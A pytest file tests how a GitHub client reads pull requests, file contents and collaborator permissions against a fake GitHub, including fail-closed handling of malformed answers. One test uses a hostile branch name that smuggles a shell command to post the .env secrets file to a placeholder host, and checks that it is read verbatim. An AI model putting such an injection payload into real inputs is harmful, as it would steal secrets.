"""Reading a pull request, its files, a file at a ref, and a permission.

Through real PyGithub calls against the fake GitHub on loopback.
"""

from __future__ import annotations

import re
from collections.abc import Callable

import pytest
from githubworld import BASE, HEAD, REPO, World

from app_relay.github.answers import GitHubError

# ---- pull requests and contents ------------------------------------------------------


def test_pull_request_is_read_into_a_typed_answer(world: World) -> None:
    world.fake.state.add_pull(
        REPO, 8, head_sha=HEAD, base_sha=BASE, author="dependabot[bot]", author_type="Bot",
        draft=True, head_repo="fork/widgets", base_ref="release",
    )  # fmt: skip
    pr = world.gw.pull_request(REPO, 8)
    assert (pr.number, pr.head_sha, pr.base_sha, pr.base_ref) == (8, HEAD, BASE, "release")
    assert (pr.head_repo_full_name, pr.author_login, pr.author_type) == (
        "fork/widgets",
        "dependabot[bot]",
        "Bot",
    )
    assert (pr.draft, pr.state) == (True, "open")


def test_the_pull_requests_own_text_is_read_as_written(world: World) -> None:
    hostile = "$({curl,-d,@.env,x.test})"
    world.fake.state.add_pull(REPO, 10, head_ref=hostile)
    pull = world.fake.state.repos[REPO].pulls[10]
    pull.update(title="Fix `x`; again", body=None)
    pr = world.gw.pull_request(REPO, 10)
    # A description GitHub holds as null is empty text.
    assert (pr.title, pr.body, pr.head_ref) == ("Fix `x`; again", "", hostile)


def test_a_deleted_fork_reads_as_no_head_repository(world: World) -> None:
    world.fake.state.add_pull(REPO, 9, head_repo=None)
    assert world.gw.pull_request(REPO, 9).head_repo_full_name is None


@pytest.mark.parametrize(
    ("mutate", "field_name"),
    [
        (lambda pr: pr["head"].pop("sha"), "head.sha"),
        (lambda pr: pr["base"].update(sha="not-a-sha"), "base.sha"),
        (lambda pr: pr.update(draft="false"), "draft"),
        (lambda pr: pr.update(state="merged"), "state"),
        (lambda pr: pr.update(user=None), "user"),
    ],
)
def test_a_malformed_pull_request_names_the_field(
    world: World, mutate: Callable[[dict[str, object]], object], field_name: str
) -> None:
    mutate(world.fake.state.repos[REPO].pulls[7])
    with pytest.raises(GitHubError, match=re.escape(f"'{field_name}'")) as err:
        world.gw.pull_request(REPO, 7)
    assert err.value.call == "GET /repos/octo/widgets/pulls/7"


def test_an_answer_that_is_not_json_fails_closed(world: World) -> None:
    world.fake.state.answer_next("GET", "/pulls/7", '{"number": 7, "head": ')
    with pytest.raises(GitHubError, match="not valid JSON"):
        world.gw.pull_request(REPO, 7)
    world.fake.state.answer_next("GET", "/pulls/7", "[]")
    with pytest.raises(GitHubError, match="not a JSON object"):
        world.gw.pull_request(REPO, 7)


def test_file_at_reads_text_at_a_ref_and_none_when_missing(world: World) -> None:
    world.fake.state.put_file(REPO, BASE, ".cujo.yml", "mode: diff\n" * 100)
    assert world.gw.file_at(REPO, ".cujo.yml", BASE) == "mode: diff\n" * 100
    assert world.fake.state.calls("GET", "/contents/")[0].query == {"ref": [BASE]}
    assert world.gw.file_at(REPO, ".cujo.yml", HEAD) is None


def test_file_at_refuses_a_file_over_the_cap(world: World) -> None:
    world.fake.state.put_file(REPO, "main", "big.txt", b"x" * 2000)
    with pytest.raises(GitHubError, match="2000 bytes, over the cap of 1000"):
        world.gw.file_at(REPO, "big.txt", "main", max_bytes=1000)


def test_file_at_fails_closed_on_a_directory_or_a_lying_size(world: World) -> None:
    world.fake.state.answer_next("GET", "/contents/docs", "[]")
    with pytest.raises(GitHubError, match="not a JSON object"):
        world.gw.file_at(REPO, "docs", "main")
    world.fake.state.answer_next(
        "GET",
        "/contents/a.txt",
        '{"type": "file", "encoding": "base64", "size": 9, "content": "eA=="}',
    )
    with pytest.raises(GitHubError, match="holds 1 bytes, 'size' says 9"):
        world.gw.file_at(REPO, "a.txt", "main")


# ---- permissions ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("role", "expected"),
    [
        ("admin", "admin"),
        ("maintain", "maintain"),
        ("write", "write"),
        ("triage", "triage"),
        ("read", "read"),
        ("none", "none"),
        ("custom-reviewer", "write"),  # a custom role: its base permission counts
    ],
)
def test_permission_reads_the_role(world: World, role: str, expected: str) -> None:
    world.fake.state.set_role(REPO, "mona", role)
    assert world.gw.permission(REPO, "mona") == expected


def test_permission_is_read_from_github_every_time(world: World) -> None:
    world.fake.state.set_role(REPO, "mona", "write")
    assert world.gw.permission(REPO, "mona") == "write"
    world.fake.state.set_role(REPO, "mona", "read")
    assert world.gw.permission(REPO, "mona") == "read"
    assert len(world.fake.state.calls("GET", "/collaborators/mona/permission$")) == 2


def test_permission_fails_closed_on_an_unknown_answer(world: World) -> None:
    world.fake.state.answer_next("GET", "/permission$", '{"permission": "owner"}')
    with pytest.raises(GitHubError, match="'permission'"):
        world.gw.permission(REPO, "mona")
    with pytest.raises(GitHubError, match="HTTP 404"):
        world.gw.permission(REPO, "ghost")
